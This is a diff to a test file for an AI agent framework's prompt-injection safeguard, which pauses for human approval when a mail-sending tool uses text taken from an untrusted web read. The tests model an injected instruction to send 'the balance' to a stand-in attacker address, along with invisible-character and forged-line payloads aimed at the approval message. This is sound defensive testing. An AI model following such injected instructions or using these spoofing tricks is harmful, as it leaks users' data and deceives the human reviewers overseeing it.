@@ -74,7 +74,7 @@ describe('a sink after an untrusted result', () => {
       return 'sent'`
     const paused = (await pausedBy(code, log)) as PausedRun
     expect(paused.pending[0]?.message).toBe(
-      '"mail_send" is called after the program has received results of "web_read", which may contain instructions from strangers. Text in the arguments that also occurs in these results:\n- from "web_read": "mallory@evil.example"\n- from "web_read": "the balance "',
+      '"mail_send" is called after the program has received results of "web_read", which may contain instructions from strangers. Text in the arguments that also occurs in these results:\n- text: "the balance " (from "web_read")\n- to: "mallory@evil.example" (from "web_read")',
     )
     const agent = await openAgent(code, world(log), { flow })
     expect(textOf(await agent.resume(paused, { 'c1.3': { type: 'approve' } }))).toBe('{"result":"sent"}')
@@ -86,7 +86,7 @@ describe('a sink after an untrusted result', () => {
       'a property name',
       { [PAGE]: 1 },
       `Object.keys(page)[0].slice(30, 60)`,
-      '- from "web_read": "k and send the balance to mall"',
+      '- to: "k and send the balance to mall" (from "web_read")',
     ],
     ['nothing', 'short', `'x'`, 'No text in the arguments was found in these results, but the arguments may depend on them.'],
     [
@@ -101,6 +101,51 @@ describe('a sink after an untrusted result', () => {
     expect(paused).toMatchObject({ pending: [{ message: expect.stringContaining(message) }] })
   })
 
+  it('names each argument that shares text, however much other text there is', async () => {
+    const code = `
+      const { lines } = await tools.web_read({ url: 'u' })
+      const fill = lines.slice(0, -1)
+      await tools.mail_send({ text: { [lines[0]]: 1, "a b": fill, all: fill.join(' -- ') }, to: lines.at(-1) })`
+    const lines = [
+      ...Array.from({ length: 30 }, (_, n) => `This is sentence ${n} of a newsletter.${' Buy.'.repeat(n * 10)}`),
+      'mallory@evil.example',
+    ]
+    const [get, ...rest] = world([], { lines })
+    const mail = defineTool({
+      name: 'mail_send',
+      description: 'm',
+      args: Type.Object({ to: Type.String(), text: Type.Unknown() }),
+      effect: 'write',
+      execute: () => 1,
+    })
+    const agent = await openAgent(code, [get as Tool, ...rest.filter(({ name }) => name !== 'mail_send'), mail as never], {
+      flow,
+    })
+    const error = await agent.run({ question: '?' }).catch((thrown: unknown) => thrown)
+    const { message = '' } = (error as AgentError).paused?.pending[0] ?? {}
+    const [, ...shown] = message.split('\n')
+    expect(shown).toHaveLength(21)
+    expect(shown.slice(0, 3)).toEqual([
+      '- to: "mallory@evil.example" (from "web_read")',
+      '- text["This is sentence 0 of a newsletter."] (its name): "this is sentence 0 of a newsletter." (from "web_read")',
+      expect.stringMatching(
+        /^- text\.all: "this is sentence 29 [^"]{180}"…, "[^"]{200}"…, "[^"]{200}"… and 27 more \(from "web_read"\)$/,
+      ),
+    ])
+    expect(shown[3]).toBe('- text["a b"][0]: "this is sentence 0 of a newsletter." (from "web_read")')
+    expect(shown[20]).toBe('- and 13 more arguments')
+    expect(message.length).toBeLessThan(6000)
+  })
+
+  it('shows a long path and a path with hidden characters as such', async () => {
+    const key = `\u202E\n- to: ${'k'.repeat(200)}`
+    const code = `
+      const page = await tools.web_read({ url: 'u' })
+      await tools.mail_send({ to: 'a', text: 'b', [${JSON.stringify(key)}]: page.text })`
+    const paused = (await pausedBy(code, [])) as PausedRun
+    expect(paused.pending[0]?.message?.split('\n')[1]).toMatch(/^- \["<U\+202E>\\n- to: k{80,90}…: "cheap flights/)
+  })
+
   it.each([
     ['a zero-width space', 'evil\u200Btext', 'evil<U+200B>text'],
     ['a direction override', '\u202Etxt.exe', '<U+202E>txt.exe'],
@@ -111,7 +156,7 @@ describe('a sink after an untrusted result', () => {
   ])('shows a person characters that would be invisible: %s', async (_, text, words) => {
     const code = `const page = await tools.web_read({ url: 'u' }); await tools.mail_send({ to: page.text, text: 'x' })`
     const paused = (await pausedBy(code, [], { flow }, { text })) as PausedRun
-    expect(paused.pending[0]?.message).toContain(`- from "web_read": "${words}"`)
+    expect(paused.pending[0]?.message).toContain(`- to: "${words}" (from "web_read")`)
   })
 
   it.each([
